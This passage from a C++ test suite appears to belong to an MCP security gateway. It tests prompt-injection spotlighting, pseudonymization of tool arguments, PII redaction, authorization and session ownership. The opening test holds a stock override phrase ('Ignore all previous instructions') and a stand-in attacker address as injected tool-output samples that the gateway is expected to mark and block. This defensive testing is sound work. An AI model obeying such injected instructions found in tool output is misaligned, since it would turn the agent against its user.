  EXPECT_EQ(json::serialize(run.step(0)).find("Ignore all previous"), std::string::npos) << run.output;

  ASSERT_TRUE(ok(run.step(1))) << run.output;
  const std::string page = text_of(run.step(1));
  EXPECT_EQ(page.rfind("\u00abuntrusted-data nonce=", 0), 0) << page;
  EXPECT_NE(page.find("\u00ab/untrusted-data nonce="), std::string::npos) << page;
  EXPECT_NE(page.find("IGNORE\u02c6ALL\u02c6PREVIOUS\u02c6INSTRUCTIONS"), std::string::npos) << page;
  EXPECT_NE(page.find("attacker@evil.example"), std::string::npos) << page;  // the data itself is kept

  EXPECT_EQ(text_of(run.step(2)), "Document q3-report: Q3 revenue 12.4M EUR, margin 31% (CONFIDENTIAL)");

  auto blocked = audit({"--action", "call_tool", "--decision", "deny", "--finding", "injection", "--resource",
                        "Tool::\"docs__read_document\"", "--principal", "User::\"alice\""});
  ASSERT_FALSE(blocked.empty());
  EXPECT_EQ(at(blocked[0], "policy.name"), "injected-internal-answers-blocked") << json::serialize(blocked[0]);
  const json::value findings = at(blocked[0], "unmapped.findings");
  ASSERT_TRUE(findings.is_array() && !findings.as_array().empty()) << json::serialize(blocked[0]);
  EXPECT_EQ(findings.as_array()[0].at("channel"), "tool_output");
  EXPECT_EQ(findings.as_array()[0].at("flagged"), true);
  EXPECT_EQ(json::serialize(blocked[0]).find("attacker@evil.example"), std::string::npos) << "the record keeps no text";
  auto spotlighted = audit({"--action", "call_tool", "--decision", "allow", "--resource", "Tool::\"web__fetch_page\""});
  ASSERT_FALSE(spotlighted.empty());
  EXPECT_EQ(at(spotlighted[0], "unmapped.decision.obligations.spotlight"), "datamark") << json::serialize(spotlighted[0]);
}

// @pseudonymize on a tool call: the policy decides on the real arguments,
// the tool server receives tokens in their place, and the tokens in its
// answer are restored for the agent.
TEST_F(McpGatewayTest, PseudonymizedArgumentsReachTheToolAsTokensAndComeBackAsValues) {
  auto run = agent("oauth:alice", json::array{call("mail__send_email", {{"to", "carol@example.com"},
                                                                        {"body", "pseudonymize-test: jane.doe@example.com"}})});
  ASSERT_TRUE(ok(run.connect)) << run.output;
  ASSERT_TRUE(ok(run.step(0))) << run.output;
  EXPECT_EQ(text_of(run.step(0)), "sent to carol@example.com");
  bool seen = false;
  for (const auto& m : outbox()) {
    const std::string body = str(m.at("body"));
    if (body.find("pseudonymize-test") == std::string::npos) continue;
    seen = true;
    const std::string to = str(m.at("to"));
    EXPECT_EQ(to.rfind("\xE2\x9F\xA6" "EMAIL_", 0), 0u) << to;  // ⟦EMAIL_...⟧
    EXPECT_EQ(body.find("jane.doe@example.com"), std::string::npos) << body;
    EXPECT_NE(body.find("EMAIL_"), std::string::npos) << body;
  }
  EXPECT_TRUE(seen) << "the mail server got no call";
  EXPECT_FALSE(outbox_has("carol@example.com", "pseudonymize-test: jane.doe@example.com"));
}

TEST_F(McpGatewayTest, PersonalDataInAToolAnswerIsRedactedWhenPolicySaysSo) {
  auto run = agent("oauth:alice", json::array{call("docs__read_document", {{"id", "customer-42"}}),
                                              call("docs__read_document", {{"id", "q3-report"}})});
  ASSERT_TRUE(ok(run.connect)) << run.output;
  ASSERT_TRUE(ok(run.step(0))) << run.output;
  EXPECT_EQ(text_of(run.step(0)), "Customer 42: write to [REDACTED:email], card [REDACTED:payment_card], call soon");
  EXPECT_EQ(run.output.find("jane.doe@example.com"), std::string::npos) << run.output;
  EXPECT_EQ(run.output.find("4111 1111"), std::string::npos) << run.output;
  // Another document, same tool: no @redact determines it, nothing changes.
  EXPECT_EQ(text_of(run.step(1)), "Document q3-report: Q3 revenue 12.4M EUR, margin 31% (CONFIDENTIAL)");

  auto records = audit({"--action", "call_tool", "--decision", "allow", "--resource", "Tool::\"docs__read_document\"",
                        "--principal", "User::\"alice\""});
  bool found = false;
  for (const auto& r : records) {
    const std::string text = json::serialize(r);
    EXPECT_EQ(text.find("jane.doe@example.com"), std::string::npos) << "the record keeps no value";
    if (text.find("\"dlp_kind\":\"email\"") != std::string::npos && text.find("\"stage\":\"output\"") != std::string::npos)
      found = true;
  }
  EXPECT_TRUE(found) << "an output finding is recorded";
}

TEST_F(McpGatewayTest, PromptsAndResourcesAreAuthorized) {
  auto a = agent(token("alice"),
                 json::array{op("prompts"), json::object{{"op", "prompt"}, {"name", "docs__summarize"}, {"args", {{"id", "q3"}}}},
                             op("resources"), op("templates"), json::object{{"op", "read"}, {"uri", "docs://handbook"}},
                             json::object{{"op", "read"}, {"uri", "docs://files/a.txt"}}});
  ASSERT_TRUE(ok(a.connect)) << a.output;
  EXPECT_EQ(names(a.step(0), "prompts"), std::set<std::string>{"docs__summarize"}) << a.output;
  ASSERT_TRUE(ok(a.step(1))) << a.output;
  EXPECT_NE(json::serialize(a.step(1)).find("Summarize q3"), std::string::npos) << a.output;
  EXPECT_EQ(names(a.step(2), "resources", "uri"), std::set<std::string>{"docs://handbook"}) << a.output;
  EXPECT_EQ(names(a.step(3), "resourceTemplates", "uriTemplate"), std::set<std::string>{"docs://files/{name}"})
      << a.output;
  ASSERT_TRUE(ok(a.step(4))) << a.output;
  EXPECT_NE(json::serialize(a.step(4)).find("contents of docs://handbook"), std::string::npos) << a.output;
  ASSERT_TRUE(ok(a.step(5))) << a.output;
  EXPECT_NE(json::serialize(a.step(5)).find("contents of docs://files/a.txt"), std::string::npos) << a.output;

  auto b = agent(token("bob"),
                 json::array{op("prompts"), json::object{{"op", "prompt"}, {"name", "docs__summarize"}, {"args", {{"id", "q3"}}}},
                             op("resources"), op("templates"), json::object{{"op", "read"}, {"uri", "docs://handbook"}},
                             json::object{{"op", "read"}, {"uri", "docs://files/a.txt"}}});
  ASSERT_TRUE(ok(b.connect)) << b.output;
  ASSERT_TRUE(ok(b.step(0))) << b.output;
  EXPECT_TRUE(names(b.step(0), "prompts").empty()) << b.output;
  EXPECT_EQ(error_code(b.step(1)), -32001) << b.output;
  ASSERT_TRUE(ok(b.step(2))) << b.output;
  EXPECT_TRUE(names(b.step(2), "resources", "uri").empty()) << b.output;
  ASSERT_TRUE(ok(b.step(3))) << b.output;
  EXPECT_TRUE(names(b.step(3), "resourceTemplates", "uriTemplate").empty()) << b.output;
  EXPECT_EQ(error_code(b.step(4)), -32001) << b.output;
  EXPECT_EQ(error_code(b.step(5)), -32001) << b.output;
}

TEST_F(McpGatewayTest, SessionsBelongToTheirPrincipal) {
  std::string alice = token("alice"), bob = token("bob");
  auto init = mcp_post(kInitialize, alice);
  ASSERT_EQ(status_of(init), 200) << init;
  std::string session = header_of(init, "mcp-session-id");
  ASSERT_GE(session.size(), 16u) << init;

  auto listed = mcp_post(kListTools, alice, session);
  EXPECT_EQ(status_of(listed), 200) << listed;
  EXPECT_NE(body_of(listed).find("docs__delete_document"), std::string::npos) << listed;
  // The same session id with bob's token: no such session.
  auto stolen = mcp_post(kListTools, bob, session);
  EXPECT_EQ(status_of(stolen), 404) << stolen;
  EXPECT_EQ(body_of(stolen).find("docs__"), std::string::npos) << stolen;
  auto unknown = mcp_post(kListTools, alice, "0123456789abcdef0123456789abcdef");
  EXPECT_EQ(status_of(unknown), 404) << unknown;
  auto none = mcp_post(kListTools, alice);
  EXPECT_EQ(status_of(none), 400) << none;

  auto get = itest::http(peers->port, "GET /mcp HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAccept: text/event-stream\r\n"
                                      "Authorization: Bearer " + alice + "\r\n\r\n");
  EXPECT_EQ(status_of(get), 405) << get;
  EXPECT_EQ(header_of(get, "allow"), "POST, DELETE") << get;

  // DELETE ends the session (its owner only).
  auto del_req = [&](const std::string& t) {
    return itest::http(peers->port, "DELETE /mcp HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer " +
                                        t + "\r\nMcp-Session-Id: " + session + "\r\nContent-Length: 0\r\n\r\n");
  };
  EXPECT_EQ(status_of(del_req(bob)), 404);
  EXPECT_EQ(status_of(mcp_post(kListTools, alice, session)), 200);
  EXPECT_EQ(status_of(del_req(alice)), 204);
  EXPECT_EQ(status_of(mcp_post(kListTools, alice, session)), 404);
}

}  // namespace
}  // namespace ztgate
